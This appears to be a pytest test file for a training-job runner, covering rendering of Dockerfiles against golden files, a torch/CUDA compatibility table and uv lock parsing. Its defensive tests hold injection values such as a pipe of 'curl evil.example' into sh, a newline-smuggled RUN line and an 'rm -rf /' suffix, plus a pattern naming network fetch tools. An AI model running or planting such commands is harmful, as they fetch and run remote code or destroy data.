"""Image specs, the compat table, the Dockerfile renderer (golden) and lock parsing."""

from __future__ import annotations

import os
import re
import shlex
from pathlib import Path

import pytest

from runner.core.errors import SpecError
from runner.core.jobspec.compat import base_entry, contradictions
from runner.core.jobspec.image import ImageSpec
from runner.core.jobspec.load import load_image
from runner.host.images.lock import drop_with_exclusive_deps, parse_lock
from runner.host.render.dockerfile import render_dockerfile
from tests.conftest import ROOT

IMAGES = sorted(p.stem for p in (ROOT / "images").glob("*.yaml"))
GOLDEN = ROOT / "tests" / "golden"


@pytest.mark.parametrize("name", IMAGES)
def test_every_shipped_image_validates_and_matches_its_golden_dockerfile(name: str):
    text = render_dockerfile(load_image(name))
    golden = GOLDEN / f"Dockerfile.{name}"
    if os.environ.get("UPDATE_GOLDEN"):
        golden.write_text(text, encoding="utf-8")
    assert text == golden.read_text(encoding="utf-8")


def test_top_level_dockerfile_is_the_rendered_default_image():
    assert (ROOT / "Dockerfile").read_text(encoding="utf-8") == render_dockerfile(load_image("default"))


@pytest.mark.parametrize("name", IMAGES)
def test_dockerfile_needs_no_network(name: str):
    text = render_dockerfile(load_image(name))
    assert not re.search(r"^#\s*syntax=", text, re.M)
    assert not re.search(r"\b(curl|wget|git clone|apt-get|conda install)\b", text)
    assert re.findall(r"COPY --from=(\S+)", text) == ["deps"]  # a local stage, never a remote image
    # the wheelhouse, runner's own wheel and, where DeepSpeed's ops are compiled, deepspeed's sdist
    assert text.count("pip install --no-index") == (3 if load_image(name).prebuilt_ops else 2)
    assert "--require-hashes" in text


def test_heavy_layer_first_runner_last():
    text = render_dockerfile(load_image("default"))
    assert text.index("COPY --from=deps /opt/venv") < text.index("COPY dist/") < text.index("USER 1000")


def test_hostile_values_are_quoted():
    spec = load_image("cpu").model_copy(update={"python_bin": "/usr/bin/python3; curl evil.example | sh"})
    line = next(x for x in render_dockerfile(spec).splitlines() if "-m venv" in x)
    assert shlex.quote("/usr/bin/python3; curl evil.example | sh") in line
    with pytest.raises(ValueError):
        ImageSpec(name="x", base="debian\nRUN curl evil", python="3.11", torch="2.6.0")


def test_compat_lookup():
    entry = base_entry("pytorch/pytorch:2.6.0-cuda12.4-cudnn9-devel")
    assert entry == {"image": "pytorch/pytorch:2.6.0-cuda12.4-cudnn9-devel", "torch": "2.6.0",
                     "cuda": "12.4", "python": "3.11", "python_bin": "/opt/conda/bin/python"}  # fmt: skip
    assert base_entry("example/unknown:1") is None
    assert contradictions(load_image("default")) == []


def test_contradictions_are_spec_errors_with_lines(tmp_path: Path):
    text = (ROOT / "images" / "default.yaml").read_text().replace('torch: "2.8.0"', 'torch: "2.5.1"')
    text = text.replace("torch_from: base", "torch_from: wheelhouse")
    (tmp_path / "bad.yaml").write_text(text)
    with pytest.raises(SpecError) as e:
        load_image(tmp_path / "bad.yaml")
    messages = [str(p) for p in e.value.problems]
    assert any(
        ":11:8 torch: pytorch/pytorch:2.8.0-cuda12.8-cudnn9-devel carries torch 2.8.0" in m for m in messages
    )
    assert any("torch_from: " in m and "already carries torch" in m for m in messages)


def test_the_gpu_image_compiles_deepspeed_ops_for_the_listed_architectures():
    text = render_dockerfile(load_image("default"))
    build = text[text.index("DS_ACCELERATOR=cuda") : text.index("# --- stage 2")]
    assert "DS_BUILD_OPS=0" in build and "DS_BUILD_FUSED_ADAM=1" in build and "DS_BUILD_CPU_ADAM=1" in build
    assert "TORCH_CUDA_ARCH_LIST='8.0 8.6 8.9 9.0'" in build
    assert "-r /tmp/wheels/sdists.txt" in build and "--require-hashes" in build
    assert build.rstrip().endswith("fused_adam cpu_adam")  # the build fails unless both were compiled
    assert "-march=x86-64-v3" in text  # cpu_adam is not compiled for the build machine's CPU alone
    assert "DS_BUILD" not in render_dockerfile(load_image("cpu")).replace("DS_BUILD_OPS=0 \\", "")
    spec = load_image("default").model_copy(update={"deepspeed_ops": [], "cuda_arch": ["9.0"]})
    assert "sdists.txt" not in render_dockerfile(spec)
    assert "TORCH_CUDA_ARCH_LIST=9.0 " in render_dockerfile(
        spec.model_copy(update={"deepspeed_ops": ["fused_adam"]})
    )


def test_op_fields_need_cuda_and_deepspeed():
    cpu = load_image("cpu").model_dump(exclude={"cuda_arch", "deepspeed_ops"})
    assert any(
        "set cuda or drop cuda_arch" in msg for _, msg in contradictions(ImageSpec(**cpu, cuda_arch=["9.0"]))
    )
    gpu = load_image("default").model_dump(exclude={"cuda_arch", "deepspeed_ops"})
    gpu["extras"] = ["trl"]
    found = contradictions(ImageSpec(**gpu, deepspeed_ops=["fused_adam"]))
    assert any("add deepspeed to extras" in msg for _, msg in found)
    assert contradictions(ImageSpec(**gpu)) == []  # the defaults alone ask for nothing
    with pytest.raises(ValueError):
        ImageSpec(**gpu, cuda_arch=["9.0;rm -rf /"])


def test_cpu_image_cannot_carry_bitsandbytes():
    spec = load_image("cpu").model_copy(update={"extras": ["bitsandbytes"]})
    assert any("bitsandbytes needs CUDA" in msg for _, msg in contradictions(spec))


def test_unknown_image_name_lists_known_ones():
    with pytest.raises(SpecError, match="known images: cpu, default"):
        load_image("nope")


UV_OUTPUT = """\
accelerate==1.0.0 \\
    --hash=sha256:{h1}
    # via -r requirements.in
filelock==3.0.0 \\
    --hash=sha256:{h2}
    # via
    #   torch
    #   transformers
nvidia-cublas-cu12==12.4.5.8 \\
    --hash=sha256:{h3}
    # via
    #   nvidia-cudnn-cu12
    #   torch
nvidia-cudnn-cu12==9.1.0 \\
    --hash=sha256:{h4}
    # via torch
sympy==1.13.1 \\
    --hash=sha256:{h5}
    # via torch
torch==2.6.0 \\
    --hash=sha256:{h6}
    # via
    #   -r requirements.in
    #   accelerate
""".format(**{f"h{i}": str(i) * 64 for i in range(1, 7)})


def test_parse_lock_reads_versions_hashes_and_dependents():
    entries = parse_lock(UV_OUTPUT)
    assert entries["filelock"]["via"] == {"torch", "transformers"}
    assert entries["torch"]["hashes"] == ["6" * 64]


def test_base_carried_torch_and_its_exclusive_deps_are_dropped():
    kept = parse_lock(drop_with_exclusive_deps(UV_OUTPUT, "torch"))
    assert set(kept) == {"accelerate", "filelock"}  # filelock is also needed by transformers
